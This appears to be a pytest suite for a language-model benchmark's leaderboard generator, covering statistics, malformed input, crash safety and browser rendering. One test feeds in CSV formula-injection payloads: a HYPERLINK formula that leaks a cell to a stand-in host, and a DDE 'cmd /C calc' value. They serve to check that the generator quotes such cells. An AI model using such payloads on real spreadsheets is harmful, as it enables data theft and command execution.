"""Leaderboards from lm-eval outputs: reading, tables against known numbers, bad input, a real browser."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
from pathlib import Path

import pytest
from stats_reference import mcnemar_exact

from decodebench.reports.leaderboard import write_report
from decodebench.reports.plots import pareto_front
from decodebench.reports.reader import read_runs
from decodebench.stats import wilson_interval

MACHINE = {"cpu": "Test CPU", "cpu_count": 2, "usable_cpus": 2, "gpus": [], "versions": {}}
DATE = "2026-11-22T10-00-00.000000"


def results_file(
    folder: Path,
    method: str,
    tasks: dict,
    *,
    measured=True,
    args=None,
    pretrained="/m/tiny",
    backend="hf",
    energy=None,
    max_gen_toks=64,
    batch_size=1,
    extra_metrics=None,
    decoding=None,
    f1=None,
    model_args=None,
) -> Path:
    """A results JSON in lm-eval 0.4.13's schema, as decodebench's models write it, and its samples log.

    ``tasks`` maps a task to (per-document 0/1 correctness, new tokens, seconds).
    """
    results, stats, configs = {}, {}, {}
    folder.mkdir(parents=True, exist_ok=True)
    for task, (correct, tokens, seconds) in tasks.items():
        quality = sum(correct) / len(correct)
        results[task] = {"alias": task, "normalized_accuracy,none": quality, "normalized_accuracy_stderr,none": 0.1}
        results[task].update(extra_metrics or {})
        stats[task] = {
            "requests": len(correct),
            "new_tokens": tokens,
            "generate_seconds": seconds,
            "tokens_per_second": tokens / seconds,
            "tokens_per_second_interval": [0.9 * tokens / seconds, 1.1 * tokens / seconds],
            "latency_s": {"p50": 0.5, "p90": 0.9, "p99": 0.99},
            "ttft_s": {"p50": 0.1, "p90": 0.2, "p99": 0.25},
            "tpot_s": {"p50": 0.02, "p90": 0.03, "p99": 0.04},
            "peak_memory_bytes": 300 * 2**20,
            "memory_source": "cpu-resident-growth",
            "joules_per_token": energy,
            "joules_per_total_token": energy / 4 if energy else None,
            "energy_unavailable_reason": None if energy else "no counter on this test machine",
            "degenerate_rate": 0.25,
            "method": {"block_efficiency": 2.5} if method == "mtad" else {},
            "method_columns": {"block efficiency": 2.5} if method == "mtad" else {},
            "decoding": [decoding or {"do_sample": False}],
        }
        configs[task] = {"generation_kwargs": {"until": [], "max_gen_toks": max_gen_toks, "do_sample": False}}
        # every request's own measurement, as decodebench logs it: an even share of the task's tokens and time
        request = {"new_tokens": tokens // len(correct), "latency_s": seconds / len(correct), "batch_size": 1}
        lines = [
            {
                "doc_id": i,
                "doc_hash": f"h{i}",
                "filter": "none",
                "normalized_accuracy": float(value),
                **({"decodebench": [request]} if measured else {}),
            }
            for i, value in enumerate(correct)
        ]
        if f1 is not None:  # a continuous metric beside the 0/1 one
            results[task]["f1,none"] = sum(f1) / len(f1)
            for line, value in zip(lines, f1, strict=True):
                line["f1"] = value
        (folder / f"samples_{task}_{DATE}.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
    config = {
        "model": method,
        "model_args": {"pretrained": pretrained, **(model_args or {})},
        "batch_size": batch_size,
        "limit": None,
    }
    if measured:
        config["decodebench"] = {
            "method": method,
            "method_args": args or {},
            "backend": backend,
            "pretrained": pretrained,
            "machine": MACHINE,
            "energy": {},
            "tasks": stats,
        }
    path = folder / f"results_{DATE}.json"
    path.write_text(
        json.dumps(
            {
                "results": results,
                "config": config,
                "configs": configs,
                "git_hash": "abc1234",
                "higher_is_better": {t: {"normalized_accuracy": True} for t in tasks},
                "n-samples": {t: {"effective": len(c[0])} for t, c in tasks.items()},
                "n-shot": dict.fromkeys(tasks, 0),
                "date": 1.0,
            }
        )
    )
    return path


# 40 documents: the baseline answers 20, lz 32 (12 more, none fewer: McNemar p = 2/4096), mtad the same 20
BASE = [1] * 20 + [0] * 20
BETTER = [1] * 32 + [0] * 8


@pytest.fixture
def outputs(tmp_path):
    results_file(
        tmp_path / "baseline", "baseline", {"squad_mini": (BASE, 100, 10.0), "cnndm_mini": ([1, 0] * 3, 50, 5.0)}
    )
    results_file(tmp_path / "mtad", "mtad", {"squad_mini": (BASE, 100, 4.0)}, args={"draft": "context"})
    results_file(tmp_path / "lz", "lz", {"squad_mini": (BETTER, 100, 20.0)}, args={"penalty": "lz"}, energy=0.5)
    results_file(tmp_path / "plain", "hf", {"squad_mini": ([0] * 40, 0, 1.0)}, measured=False)
    return tmp_path


def test_tables_show_intervals_paired_tests_speed_memory_and_energy(outputs, tmp_path):
    written, _problems = write_report([outputs], tmp_path / "board")
    assert sorted(p.name for p in written) == [
        "leaderboard.csv",
        "leaderboard.html",
        "leaderboard.json",
        "leaderboard.md",
    ]
    data = json.loads((tmp_path / "board" / "leaderboard.json").read_text())
    squad = {row["run"]: row for row in data["tasks"]["squad_mini"]}
    lz = squad["lz (penalty=lz)"]
    accuracy = lz["metrics"]["normalized_accuracy"]
    assert accuracy["value"] == 0.8 and accuracy["interval_method"] == "wilson-cc"
    assert accuracy["interval"] == pytest.approx(wilson_interval(32, 40).as_list())
    assert accuracy["vs_baseline"]["test"] == "mcnemar-exact"
    assert accuracy["vs_baseline"]["p_value"] == pytest.approx(mcnemar_exact(12, 0))
    assert accuracy["vs_baseline"]["difference"] == pytest.approx(0.3)
    mtad = squad["mtad (draft=context)"]
    assert mtad["metrics"]["normalized_accuracy"]["vs_baseline"]["p_value"] == 1.0
    assert mtad["speed_ratio_vs_baseline"] == pytest.approx(2.5)  # 25 vs 10 tokens/s
    assert lz["speed_ratio_vs_baseline"] == pytest.approx(0.5) and lz["joules_per_token"] == 0.5
    assert squad["baseline"]["energy_note"] == "no counter on this test machine"
    assert squad["hf"]["tokens_per_second"] is None and squad["hf"]["speed_note"] == "not measured"
    assert next(row["run"] for row in data["tasks"]["squad_mini"]) == "lz (penalty=lz)"  # best quality first
    assert data["tasks"]["cnndm_mini"][0]["n_below_30"] is True
    markdown = (tmp_path / "board" / "leaderboard.md").read_text()
    assert "| lz (penalty=lz) | 40 | 0.800 [0.639, 0.904] | +0.300* [" in markdown
    assert (
        "| 5.0 [4.5, 5.5] | 0.50x (not interleaved) | 0.50/0.90/0.99 | 0.10/0.20/0.25 | 20.0/30.0/40.0 | 300 MiB "
        "| 0.5000 / 0.1250 |" in markdown
    )
    assert "| 6 (below 10: intervals approximate) |" in markdown
    assert data["tasks"]["cnndm_mini"][0]["intervals_approximate"] is True
    assert "plain lm-eval run: no speed or energy measurements" in markdown
    assert "block efficiency 2.50" in markdown
    rows = list(csv.DictReader(io.StringIO((tmp_path / "board" / "leaderboard.csv").read_text())))
    assert len(rows) == 5 and {r["task"] for r in rows} == {"squad_mini", "cnndm_mini"}


def test_a_label_that_is_bad_tex_and_a_number_beyond_floats_are_drawn_and_noted_not_fatal(tmp_path):
    results_file(tmp_path / "baseline", "baseline", {"squad_mini": ([0, 1] * 5, 50, 5.0)})
    results_file(tmp_path / "lz", "lz", {"squad_mini": ([1, 1] * 5, 60, 5.0)}, args={"penalty": "$\\frac{1}{$"})
    huge = tmp_path / "lz" / f"results_{DATE}.json"
    data = json.loads(huge.read_text())
    data["results"]["squad_mini"]["f1,none"] = 10**400  # JSON parses it; math.isfinite raised on it
    data["config"]["decodebench"]["tasks"]["squad_mini"]["joules_per_token"] = 10**400
    huge.write_text(json.dumps(data))
    write_report([tmp_path], tmp_path / "board")
    html = (tmp_path / "board" / "leaderboard.html").read_text()
    assert "data:image/png;base64," in html  # the quality-speed plot, labels and all
    markdown = (tmp_path / "board" / "leaderboard.md").read_text()
    assert "\\frac{1}{" in markdown
    assert "squad_mini: non-finite value(s) for f1, shown as missing" in markdown
    assert "squad_mini: non-finite measurement(s) joules_per_token, shown as missing" in markdown


def test_open_loop_runs_are_drawn_as_goodput_and_quality_against_offered_load(tmp_path):
    for method in ("baseline", "mtad"):
        for rate in (0.5, 1, 2):
            folder = tmp_path / f"{method}-{rate}"
            args = {"backend": "served", "request_rate": rate, "slo": "ttft:500"}
            path = results_file(
                folder, method, {"squad_mini": ([1, 0] * 5, 50, 5.0)}, backend="served", model_args=args
            )
            data = json.loads(path.read_text())
            data["config"]["decodebench"]["tasks"]["squad_mini"]["slo"] = {"goodput_rps": rate * 0.9, "met": 9, "n": 10}
            path.write_text(json.dumps(data))
    write_report([tmp_path], tmp_path / "board")
    html = (tmp_path / "board" / "leaderboard.html").read_text()
    assert "goodput and quality against offered load" in html
    assert "throughput against latency across concurrency" not in html  # an open loop has no concurrency level


def test_a_fifo_named_like_results_is_left_out_not_waited_on(tmp_path):
    import os

    results_file(tmp_path / "baseline", "baseline", {"squad_mini": ([0, 1] * 5, 50, 5.0)})
    os.mkfifo(tmp_path / "baseline" / "results_2026-01-01T00-00-00.json")  # opening it to read blocks for ever
    _, problems = write_report([tmp_path], tmp_path / "board")
    assert any("results_2026-01-01T00-00-00.json: not a regular file; left out" in p for p in problems)
    assert (tmp_path / "board" / "leaderboard.md").is_file()


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(tmp_path):
    formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")'
    results_file(tmp_path / "baseline", "baseline", {"squad_mini": ([0, 1] * 5, 50, 5.0)}, pretrained=formula)
    results_file(tmp_path / "lz", "lz", {"squad_mini": ([1, 1] * 5, 50, 5.0)}, pretrained="@SUM(1+1)*cmd|' /C calc'!A0")
    write_report([tmp_path], tmp_path / "board")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "board" / "leaderboard.csv").read_text())))
    cells = [value for row in rows for value in row.values() if value]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells) and any(cell.startswith("'@SUM") for cell in cells)
    assert any(cell.startswith("-0.") or cell.startswith("0.") for cell in cells)  # numbers stay numbers


def test_with_five_documents_no_p_value_is_below_what_five_pairs_allow(tmp_path):
    """Every document better by the same margin, 0/1 and continuous: exact paired tests cannot go below 2/2^5."""
    results_file(tmp_path / "baseline", "baseline", {"squad_mini": ([0] * 5, 50, 5.0)}, f1=[0.1] * 5)
    results_file(tmp_path / "lz", "lz", {"squad_mini": ([1] * 5, 50, 5.0)}, f1=[0.6] * 5)
    write_report([tmp_path], tmp_path / "board")
    rows = json.loads((tmp_path / "board" / "leaderboard.json").read_text())["tasks"]["squad_mini"]
    lz = next(r for r in rows if r["method"] == "lz")
    comparisons = [lz["metrics"][m]["vs_baseline"] for m in ("normalized_accuracy", "f1")]
    assert [c["test"] for c in comparisons] == ["mcnemar-exact", "sign-flip-exact"]
    assert all(c["p_value"] == pytest.approx(0.0625) for c in comparisons)
    assert comparisons[1]["interval"] == [-1.0, 1.0]  # no shift is rejected: all a difference of F1 can be
    markdown = (tmp_path / "board" / "leaderboard.md").read_text()
    assert "| +1.000 [-0.044, +1.000] p=0.0625 |" in markdown and "5 (below 10: intervals approximate)" in markdown


def test_a_baseline_with_another_configuration_is_never_used(tmp_path):
    results_file(tmp_path / "baseline", "baseline", {"squad_mini": (BASE, 100, 10.0)}, max_gen_toks=32)
    results_file(tmp_path / "lz", "lz", {"squad_mini": (BETTER, 100, 20.0)}, max_gen_toks=64)
    results_file(tmp_path / "lz-b8", "lz", {"squad_mini": (BETTER, 100, 20.0)}, max_gen_toks=32, batch_size=8)
    write_report([tmp_path], tmp_path / "board")
    rows = json.loads((tmp_path / "board" / "leaderboard.json").read_text())["tasks"]["squad_mini"]
    other_config = next(r for r in rows if r["method"] == "lz" and r["batch_size"] == 1)
    assert other_config["baseline"] is None and "no baseline of the same" in other_config["baseline_note"]
    assert (
        other_config["speed_ratio_vs_baseline"] is None
        and other_config["metrics"]["normalized_accuracy"]["vs_baseline"] is None
    )
    other_batch = next(r for r in rows if r["batch_size"] == 8)
    assert other_batch["metrics"]["normalized_accuracy"]["vs_baseline"] is not None  # quality pairs up
    assert other_batch["speed_ratio_vs_baseline"] is None and "batch size 1" in other_batch["speed_note"]


def test_served_runs_pair_at_the_same_load_and_are_drawn_across_loads(tmp_path):
    """A sweep's runs: the method at 4 requests in flight against the baseline at 4, never at 1; the HTML draws
    throughput against latency across the loads."""
    for level, seconds in ((1, 10.0), (4, 4.0)):
        for method, correct, slower in (("baseline", BASE, 1.0), ("lz", BETTER, 1.25)):
            results_file(
                tmp_path / f"{method}-{level}",
                method,
                {"squad_mini": (correct, 100, seconds * slower)},
                backend="served",
                model_args={"backend": "served", "num_concurrent": level},
            )
    write_report([tmp_path], tmp_path / "board")
    rows = json.loads((tmp_path / "board" / "leaderboard.json").read_text())["tasks"]["squad_mini"]
    for row in rows:
        assert row["concurrency"] in (1, 4)
        if row["method"] == "lz":
            assert row["speed_ratio_vs_baseline"] == pytest.approx(1 / 1.25)  # against its own load's baseline
    html = (tmp_path / "board" / "leaderboard.html").read_text()
    assert "throughput against latency across concurrency" in html


def test_a_baseline_that_sampled_otherwise_is_never_used(tmp_path):
    """Same task kwargs, but the method's defaults (MTAD's top-k 20) made it sample another distribution."""
    sampled = {"do_sample": True, "temperature": 1.0, "top_p": None}
    results_file(
        tmp_path / "baseline", "baseline", {"squad_mini": (BASE, 100, 10.0)}, decoding={**sampled, "top_k": 50}
    )
    results_file(tmp_path / "mtad", "mtad", {"squad_mini": (BETTER, 100, 5.0)}, decoding={**sampled, "top_k": 20})
    write_report([tmp_path], tmp_path / "board")
    rows = json.loads((tmp_path / "board" / "leaderboard.json").read_text())["tasks"]["squad_mini"]
    mtad = next(r for r in rows if r["method"] == "mtad")
    assert mtad["baseline"] is None and "decoding settings" in mtad["baseline_note"]
    assert mtad["speed_ratio_vs_baseline"] is None


def test_a_run_without_samples_has_no_interval_and_says_so(tmp_path):
    results_file(tmp_path / "baseline", "baseline", {"squad_mini": (BASE, 100, 10.0)})
    for samples in (tmp_path / "baseline").glob("samples_*"):
        samples.unlink()
    write_report([tmp_path], tmp_path / "board")
    row = json.loads((tmp_path / "board" / "leaderboard.json").read_text())["tasks"]["squad_mini"][0]
    assert row["metrics"]["normalized_accuracy"]["interval"] is None
    assert any("no samples log" in p for p in row["problems"])


def test_non_finite_and_string_metrics_are_shown_as_missing_and_listed(tmp_path):
    results_file(
        tmp_path / "baseline",
        "baseline",
        {"squad_mini": (BASE, 100, 10.0)},
        extra_metrics={"f1,none": float("nan"), "bleu,none": float("inf"), "verdict,none": "good"},
    )
    write_report([tmp_path], tmp_path / "board")
    text = (tmp_path / "board" / "leaderboard.json").read_text()
    json.loads(text, parse_constant=lambda name: pytest.fail(f"{name} in leaderboard.json: not strict JSON"))
    row = json.loads(text)["tasks"]["squad_mini"][0]
    assert row["metrics"]["f1"]["value"] is None and row["metrics"]["bleu"]["value"] is None
    assert row["not_read"] == ["verdict"]
    markdown = (tmp_path / "board" / "leaderboard.md").read_text()
    assert "nanx" not in markdown and "nan" not in markdown.split("Not complete")[0].lower().replace("nano", "")
    assert "non-finite value(s) for f1, bleu, shown as missing" in markdown
    assert "not read (not a number): verdict" in markdown


KILLED_REPORT = """
import sys
from decodebench.reports import leaderboard
real = leaderboard.csv_text
def slow_then_die(*args):
    real(*args)
    import os, signal
    os.kill(os.getpid(), signal.SIGKILL)  # killed while the report is being made
leaderboard.csv_text = slow_then_die
leaderboard.write_report([sys.argv[1]], sys.argv[2])
"""


def test_a_report_killed_mid_write_leaves_the_previous_report_whole(outputs, tmp_path):
    import signal
    import subprocess
    import sys

    board = tmp_path / "board"
    write_report([outputs], board)
    before = {p.name: p.read_bytes() for p in board.iterdir()}
    results_file(outputs / "lz2", "lz", {"squad_mini": (BASE, 100, 20.0)}, args={"penalty": "frequency"})
    proc = subprocess.run([sys.executable, "-c", KILLED_REPORT, str(outputs), str(board)], capture_output=True)
    assert proc.returncode == -signal.SIGKILL
    assert {p.name: p.read_bytes() for p in board.iterdir() if not p.name.endswith(".partial")} == before


def test_an_argument_with_a_newline_keeps_its_table_row_on_one_line(tmp_path):
    results_file(tmp_path / "baseline", "baseline", {"squad_mini": ([1, 0], 10, 1.0)})
    results_file(tmp_path / "nugget", "nugget", {"squad_mini": ([0, 0], 10, 1.0)}, args={"split": "\n\n"})
    write_report([tmp_path], tmp_path / "board")
    table = (tmp_path / "board" / "leaderboard.md").read_text().split("## squad_mini")[1].strip().split("\n\n")[0]
    assert [line.startswith("| nugget (split=\\n\\n) |") for line in table.splitlines()[2:]] == [False, True]


def test_partial_runs_and_bad_files_are_reported_not_hidden(tmp_path):
    path = results_file(tmp_path / "cut", "baseline", {"squad_mini": (BASE, 10, 1.0)})
    data = json.loads(path.read_text())
    data["results"]["cnndm_mini"] = {"rougeL,none": 0.1}  # scored, but its measurement is missing
    path.write_text(json.dumps(data))
    (tmp_path / "junk").mkdir()
    (tmp_path / "junk" / "results_x.json").write_text('{"not": "lm-eval"}')
    (tmp_path / "junk" / "results_y.json").write_text("{broken")
    runs, problems = read_runs([tmp_path])
    assert len(runs) == 1
    assert any("cnndm_mini: no decodebench measurement" in p for p in runs[0].problems)
    assert any("not an lm-eval results file" in p for p in problems)
    assert any("not readable JSON" in p for p in problems)
    _written, _ = write_report([tmp_path], tmp_path / "board")
    assert "cnndm_mini: no decodebench measurement" in (tmp_path / "board" / "leaderboard.md").read_text()


def test_a_truncated_samples_log_costs_only_its_own_intervals(tmp_path):
    results_file(tmp_path / "baseline", "baseline", {"squad_mini": (BASE, 100, 10.0)})
    results_file(tmp_path / "lz", "lz", {"squad_mini": (BETTER, 100, 10.0)}, args={"penalty": "lz"})
    (samples,) = (tmp_path / "lz").glob("samples_*.jsonl")
    samples.write_text(samples.read_text()[:-25])  # the last line cut in its middle
    written, _ = write_report([tmp_path], tmp_path / "board")
    assert len(written) == 4
    data = json.loads((tmp_path / "board" / "leaderboard.json").read_text())
    lz = next(r for r in data["tasks"]["squad_mini"] if r["method"] == "lz")
    assert lz["metrics"]["normalized_accuracy"]["interval"] is None and lz["metrics"]["normalized_accuracy"]["value"]
    assert any(f"{samples.name}:40 is not valid JSON" in note for note in lz["notes"])


def test_odd_method_columns_and_non_finite_measurements_are_shown_as_missing(tmp_path):
    path = results_file(tmp_path / "baseline", "baseline", {"squad_mini": (BASE, 100, 10.0)})
    data = json.loads(path.read_text())
    stats = data["config"]["decodebench"]["tasks"]["squad_mini"]
    stats["method_columns"] = {"selector": "delimiter", "nuggets": None, "ratio": 10}
    stats["tokens_per_second"] = float("nan")
    stats["tokens_per_second_interval"] = [float("-inf"), float("inf")]
    stats["peak_memory_bytes"] = float("nan")
    path.write_text(json.dumps(data))
    write_report([tmp_path], tmp_path / "board")
    markdown = (tmp_path / "board" / "leaderboard.md").read_text()
    row = next(line for line in markdown.splitlines() if line.startswith("| baseline |"))
    assert "selector delimiter, nuggets -, ratio 10.00" in row
    for shown in ("nan", "inf", "nanx", "nan MiB"):
        assert shown not in row.lower()
    assert "non-finite measurement(s) tokens_per_second" in markdown


def test_an_output_folder_that_cannot_be_made_is_a_clear_error(outputs, tmp_path):
    import subprocess
    import sys

    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    for out in (blocker, blocker / "below"):
        proc = subprocess.run(
            [sys.executable, "-m", "decodebench.commands.cli", "report", str(outputs), "--out", str(out)],
            capture_output=True,
            text=True,
        )
        assert proc.returncode == 2 and "error: cannot write the leaderboard to --out" in proc.stderr
        assert "Traceback" not in proc.stderr


def test_runs_that_read_alike_get_labels_that_tell_them_apart(tmp_path):
    results_file(tmp_path / "baseline", "baseline", {"squad_mini": (BASE, 100, 10.0)})
    for name, pretrained in (("a", "/m/tiny"), ("b", "/m/tiny-bf16")):
        results_file(tmp_path / name, "lz", {"squad_mini": (BETTER, 100, 10.0)}, args={"penalty": "lz"})
        path = next((tmp_path / name).glob("results_*.json"))
        data = json.loads(path.read_text())
        data["config"]["model_args"] = {"pretrained": "/m/tiny", "dtype": pretrained.rsplit("-", 1)[-1]}
        path.write_text(json.dumps(data))
    write_report([tmp_path], tmp_path / "board")
    rows = json.loads((tmp_path / "board" / "leaderboard.json").read_text())["tasks"]["squad_mini"]
    labels = [r["run"] for r in rows if r["method"] == "lz"]
    assert len(set(labels)) == 2 and all(label.startswith("lz (penalty=lz) [dtype=") for label in labels)


def test_empty_folders_and_different_models(tmp_path):
    (tmp_path / "empty").mkdir()
    written, problems = write_report([tmp_path / "empty"], tmp_path / "board")
    assert written == [] and "no lm-eval results" in problems[0]
    results_file(tmp_path / "a", "baseline", {"squad_mini": (BASE, 10, 1.0)}, pretrained="/m/one")
    results_file(tmp_path / "b", "lz", {"squad_mini": (BASE, 10, 2.0)}, pretrained="/m/two")
    written, problems = write_report([tmp_path / "a", tmp_path / "b"], tmp_path / "board2")
    assert written and any("2 different models" in p for p in problems)
    data = json.loads((tmp_path / "board2" / "leaderboard.json").read_text())
    lz = next(r for r in data["tasks"]["squad_mini"] if r["method"] == "lz")
    assert lz["speed_ratio_vs_baseline"] is None and lz["speed_note"] == "no matching baseline"


def test_points_on_one_spot_share_one_label_and_the_rest_keep_their_own():
    from decodebench.reports.plots import label_groups

    # display units (pixels): 0 and 2 nearly coincide, 1 is far, 3 is just outside the radius of 0
    assert label_groups([(100, 100), (300, 50), (104, 97), (100, 110)], radius=9.0) == [[0, 2], [1], [3]]


def test_a_plot_of_runs_with_long_labels_numbers_its_points(outputs, tmp_path):
    """Labels are numbers on the plot and names in the key beside it (long run labels printed over each other)."""
    import base64

    from decodebench.reports.plots import _scatter
    from decodebench.reports.reader import read_runs
    from decodebench.reports.tables import build_rows

    runs, _ = read_runs([outputs])
    rows = build_rows(runs)["squad_mini"]
    png = base64.b64decode(_scatter(rows, "speed"))
    assert png.startswith(b"\x89PNG") and len(png) > 10_000


def test_pareto_front_keeps_the_undominated_points():
    points = [(1.0, 0.5), (2.0, 0.4), (0.5, 0.6), (1.5, 0.3), (2.0, 0.5)]
    assert sorted(pareto_front(points)) == [2, 4]  # (0.5, 0.6) and (2.0, 0.5); the rest are dominated


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
CHROMEDRIVER = shutil.which("chromedriver")


@pytest.mark.browser
@pytest.mark.skipif(
    not (CHROMIUM and CHROMEDRIVER) and not os.environ.get("DECODEBENCH_REQUIRE_BROWSER"),
    reason="Debian's chromium and chromium-driver are not installed",
)
def test_html_leaderboard_in_headless_chromium(outputs, tmp_path):
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service
    from selenium.webdriver.common.by import By

    write_report([outputs], tmp_path / "board")
    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for flag in (
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        f"--user-data-dir={tmp_path / 'profile'}",
        "--window-size=1400,1000",  # a laptop's window
    ):
        options.add_argument(flag)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=options)
    try:
        driver.get((tmp_path / "board" / "leaderboard.html").as_uri())
        assert driver.title == "decodebench leaderboard"
        errors = [entry for entry in driver.get_log("browser") if entry["level"] == "SEVERE"]
        assert errors == [], errors
        panel = driver.find_element(By.ID, "panel-1")

        def runs():
            rows = panel.find_elements(By.CSS_SELECTOR, "tbody tr")
            return [row.find_elements(By.TAG_NAME, "td")[0].text for row in rows]

        assert runs()[0] == "lz (penalty=lz)"
        lz_row = panel.find_elements(By.CSS_SELECTOR, "tbody tr")[0]
        delta = lz_row.find_element(By.CSS_SELECTOR, "td.significant")  # a significant difference, marked
        assert delta.text.startswith("+0.300*") and "p=" in delta.get_attribute("title")
        # 32 of 40 right: Wilson's interval with continuity correction
        assert "[0.639, 0.904]" in lz_row.text and "0.50/0.90/0.99" in lz_row.text and "300 MiB" in lz_row.text
        speed_header = next(th for th in panel.find_elements(By.TAG_NAME, "th") if th.text.startswith("tokens/s"))
        speed_header.click()  # ascending: slowest first, unmeasured last
        assert runs()[:3] == ["lz (penalty=lz)", "baseline", "mtad (draft=context)"]
        speed_header.click()
        assert runs()[0] == "mtad (draft=context)"
        assert len(panel.find_elements(By.TAG_NAME, "img")) == 2  # quality vs tokens/s and vs J/token
        driver.find_element(By.ID, "tab-2").click()
        assert driver.find_element(By.ID, "panel-2").is_displayed() and not panel.is_displayed()
        small = driver.find_element(By.CSS_SELECTOR, "#panel-2 td.small-n")  # n = 6: warned (below 10)
        assert small.text == "6"
        assert "fewer than 10 documents: intervals are approximate" in small.get_attribute("title")
        driver.find_element(By.ID, "tab-1").click()
        # the page fits the window: a wide table scrolls inside its own box
        page_width, window_width = driver.execute_script(
            "return [document.documentElement.scrollWidth, document.documentElement.clientWidth]"
        )
        assert page_width <= window_width, (page_width, window_width)
        box = panel.find_element(By.CSS_SELECTOR, ".table-box")
        assert box.value_of_css_property("overflow-x") == "auto" and box.size["width"] <= window_width
        screenshot = tmp_path / "leaderboard.png"
        driver.save_screenshot(str(screenshot))
        assert screenshot.stat().st_size > 10_000
        if os.environ.get("DECODEBENCH_SCREENSHOT_DIR"):  # keep a copy for a person to look at
            shutil.copy(screenshot, Path(os.environ["DECODEBENCH_SCREENSHOT_DIR"]) / "leaderboard.png")
        assert [e for e in driver.get_log("browser") if e["level"] == "SEVERE"] == []
    finally:
        driver.quit()


def test_tokens_per_second_shows_no_interval_over_fewer_than_10_timed_batches(tmp_path):
    """A bootstrap over 3 timed batches is not calibrated: the cell gives the figure and its title says why."""
    from decodebench.reports.tables import build_rows, speed_text, speed_title

    results_file(tmp_path / "baseline", "baseline", {"squad_mini": (BASE, 100, 10.0)})
    (row,) = build_rows(read_runs([tmp_path])[0])["squad_mini"]
    row.measurement["tokens_per_second_units"] = 3
    assert speed_text(row) == "10.0" and "no interval: 3 timed batch(es)" in speed_title(row)
    row.measurement["tokens_per_second_units"] = 40
    assert speed_text(row) == "10.0 [9.0, 11.0]" and speed_title(row).startswith("95% bootstrap interval")
